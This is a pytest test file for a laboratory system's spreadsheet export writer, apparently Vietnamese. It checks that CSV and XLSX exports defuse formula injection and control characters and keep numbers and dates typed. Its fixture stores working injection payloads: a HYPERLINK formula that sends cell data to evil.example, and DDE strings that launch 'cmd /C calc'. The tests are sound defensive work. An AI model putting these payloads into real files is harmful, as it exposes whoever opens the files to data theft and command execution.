"""Every spreadsheet export goes through one writer (lims/exports.py): text that a spreadsheet
would run as a formula stays text, stored control characters never break a file, numbers are
numbers and dates are dates (issue 16 items 7 and 8, issue 23 item 6).

The world is the failing, certified sample of the warning tests, whose names are then made
hostile directly in the database, as data stored before the input rules (or by another writer)
would be."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from lims import exports
from lims.extensions import db
from tests.conftest import login
from tests.lims.warnings.conftest import build_world

FORMULAS = {
    "product": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "business": "+cmd|' /C calc'!A0",
    "campaign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "district": "-2+3+cmd|' /C calc'!A0",
    "category": "\t=1+1 Nước mắm",
    "regulation": "=1+1 QCVN 01:2022/BKHCN",
}
STORED_CONTROL = "Hòn\x01Khói\u202e\x0b"  # a C0 control, a bidi override, a vertical tab
# what a spreadsheet runs: = + - @ (or full-width forms) followed by something, or tab/CR first
TRIGGER = re.compile(r"^[ \u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]\s*\S|^[\t\r]")


@pytest.fixture
def hostile(app, make_user):
    world = build_world(app, make_user)
    with app.app_context():
        sample = sa.table(
            "samples",
            sa.column("id"),
            sa.column("product_name"),
            sa.column("brand"),
            sa.column("business_id"),
            sa.column("campaign_id"),
            sa.column("category_id"),
        )
        row = db.session.execute(sa.select(sample).where(sample.c.id == world["sample_id"])).one()
        db.session.execute(
            sa.update(sample)
            .where(sample.c.id == row.id)
            .values(product_name=FORMULAS["product"], brand=STORED_CONTROL)
        )
        db.session.execute(
            sa.text("UPDATE businesses SET name = :n, district = :d WHERE id = :i"),
            {"n": FORMULAS["business"], "d": FORMULAS["district"], "i": row.business_id},
        )
        db.session.execute(
            sa.text("UPDATE campaigns SET name = :n WHERE id = :i"),
            {"n": FORMULAS["campaign"], "i": row.campaign_id},
        )
        db.session.execute(
            sa.text("UPDATE product_categories SET name_vi = :n WHERE id = :i"),
            {"n": FORMULAS["category"], "i": row.category_id},
        )
        db.session.execute(
            sa.text("UPDATE specifications SET regulation = :n"), {"n": FORMULAS["regulation"]}
        )
        db.session.commit()
        db.session.remove()
    user = make_user("technician", "reviewer", "association", "admin", email="all@lab.vn")
    client = app.test_client()
    assert login(client, user.email, user.password).status_code == 302
    return client


XLSX_EXPORTS = [
    "/intake/samples.xlsx",
    "/testing/register?format=xlsx",
    "/reports/annual?format=xlsx",
    "/reports/export?table=category&format=xlsx",
    "/reports/export?table=district&format=xlsx",
    "/reports/export?table=campaign&format=xlsx",
]
CSV_EXPORTS = [
    "/intake/samples.csv",
    "/testing/register?format=csv",
    "/reports/export?table=category&format=csv",
    "/reports/export?table=district&format=csv",
    "/reports/export?table=campaign&format=csv",
    "/catalog/export.csv",
]


def _year(url: str) -> str:
    if url.startswith("/reports"):
        return url + f"&year={date.today().year}"
    return url


def _texts(book) -> list[str]:
    return [
        c.value
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]


def test_xlsx_exports_hold_no_formula_and_survive_stored_control_characters(hostile):
    seen = set()
    for url in XLSX_EXPORTS:
        response = hostile.get(_year(url))
        assert response.status_code == 200, (url, response.status_code)  # was a 500 (\x01)
        archive = zipfile.ZipFile(io.BytesIO(response.data))
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), url
        book = load_workbook(io.BytesIO(response.data))
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (url, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and TRIGGER.match(cell.value):
                        assert cell.quotePrefix, (url, cell.coordinate, cell.value)
                        seen.add(cell.value)
        texts = _texts(book)
        assert not any(re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\u202a-\u202e]", t) for t in texts)
    # the hostile texts are there, unchanged, as text
    assert {FORMULAS["product"], FORMULAS["business"], FORMULAS["campaign"]} <= seen
    assert FORMULAS["category"] in seen and FORMULAS["district"] in seen


def test_csv_exports_neutralise_formulas_and_keep_the_text(hostile):
    seen = set()
    for url in CSV_EXPORTS:
        response = hostile.get(_year(url))
        assert response.status_code == 200, (url, response.status_code)
        text = response.get_data(as_text=True)
        if url != "/catalog/export.csv":  # the catalogue keeps its data-file form (no BOM)
            assert text.startswith("\ufeff"), url
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
            for cell in row:
                assert not TRIGGER.match(cell) or _number(cell), (url, cell)
                if cell.startswith("'") and TRIGGER.match(cell[1:]):
                    seen.add(cell[1:])
                assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\u202a-\u202e]", cell), url
    assert set(FORMULAS.values()) <= seen


def _number(cell: str) -> bool:
    return bool(re.fullmatch(r"-?\d+(,\d+)?", cell))


def test_the_catalogue_export_reads_back_the_same(hostile, app):
    from lims.catalog import csvread

    text = hostile.get("/catalog/export.csv").get_data(as_text=True)
    assert "'=1+1 QCVN" in text
    with app.app_context():
        rows, issues = csvread.read_rows(text)
        db.session.remove()
    assert rows and {r.regulation for r in rows} == {FORMULAS["regulation"]}
    assert all(issue.column != "regulation" for issue in issues)  # (the fixture has no units)


def test_numbers_are_numbers_and_dates_are_dates(hostile):
    """Issue 23: the register and the programme report were text in every cell."""
    register = load_workbook(io.BytesIO(hostile.get("/testing/register?format=xlsx").data))
    ws = register.worksheets[0]
    header = [c.value for c in ws[1]]
    row = [c for c in ws[2]]
    entered = row[header.index("Ngày vào sổ")]
    result = row[header.index("Kết quả")]
    assert isinstance(entered.value, datetime) and entered.is_date
    assert "dd/mm/yyyy" in entered.number_format
    assert result.value == 520 and result.data_type == "n"
    # the sheet is ready to read: bold frozen header, filters, widths
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:")
    assert all(c.font.b for c in ws[1])
    assert ws.column_dimensions["C"].width >= 8
    report = load_workbook(
        io.BytesIO(hostile.get(f"/reports/annual?format=xlsx&year={date.today().year}").data)
    )
    assert all(len(name) <= 31 for name in report.sheetnames)
    summary = {r[0]: r[1] for r in report["Tổng hợp"].iter_rows(values_only=True)}
    assert summary["Số mẫu đã thử nghiệm"] == 1 and isinstance(summary["Từ ngày"], datetime)
    samples = load_workbook(io.BytesIO(hostile.get("/intake/samples.xlsx").data)).worksheets[0]
    sampled_at = samples.cell(row=2, column=18)
    assert isinstance(sampled_at.value, datetime) and "hh:mm" in sampled_at.number_format


# ---------------------------------------------------------------------------- the writer itself


def test_writer_cell_rules():
    assert exports.csv_cell("=1+1") == "'=1+1"
    assert exports.csv_cell("  @x") == "'  @x"
    assert exports.csv_cell("\tx") == "'\tx"
    assert exports.csv_cell("-") == "-" and exports.csv_cell("+ ") == "+ "  # a unit, a gap
    assert exports.csv_cell("a\x01b\u202e") == "a\ufffdb\ufffd"
    assert exports.csv_cell(Decimal("0.250")) == "0,250"
    assert exports.csv_cell(Decimal("0.250"), "en") == "0.250"
    assert exports.csv_cell(Decimal("-5")) == "-5"
    assert exports.csv_cell(date(2026, 2, 3)) == "03/02/2026"
    assert exports.csv_text_back("'=1+1") == "=1+1" and exports.csv_text_back("'ok") == "'ok"
    assert exports.number_or_text("0,250") == Decimal("0.250")
    assert exports.number_or_text("< 0,05") == "< 0,05" and exports.number_or_text("KPH") == "KPH"
    assert exports.csv_bytes(["Tên"], [["Nước mắm"]]).startswith("\ufeff".encode())


def test_sheet_names_fit_excel():
    names = exports.sheet_names(
        [
            "Theo địa bàn (huyện, thị xã, thành phố)",
            "a/b:c*?[x]",
            "Theo địa bàn (huyện, thị xã, thành phố)",
            "",
        ]
    )
    assert all(0 < len(n) <= 31 for n in names) and len(set(names)) == 4
    assert not any(set(n) & set("[]:*?/\\") for n in names)


def test_writer_types_cells_for_every_kind_of_value():
    data = exports.xlsx_bytes(
        [
            exports.Sheet(
                "Thử",
                ["a", "b", "c", "d", "e"],
                [
                    [Decimal("1234.50"), 7, date(2026, 1, 2), datetime(2026, 1, 2, 3, 4), "=A1"],
                    [None, Decimal("NaN"), "x" * 40_000, True, "\x00bad"],
                ],
            )
        ]
    )
    ws = load_workbook(io.BytesIO(data))["Thử"]
    first, second = list(ws.iter_rows(min_row=2, max_row=2))[0], list(ws.iter_rows(min_row=3))[0]
    assert first[0].value == Decimal("1234.5") and first[0].number_format == "#,##0.00"
    assert first[1].value == 7 and first[2].is_date and first[3].is_date
    assert first[4].value == "=A1" and first[4].data_type == "s" and first[4].quotePrefix
    assert second[1].value is None and len(second[2].value) == 32_767
    assert second[4].value == "\ufffdbad"
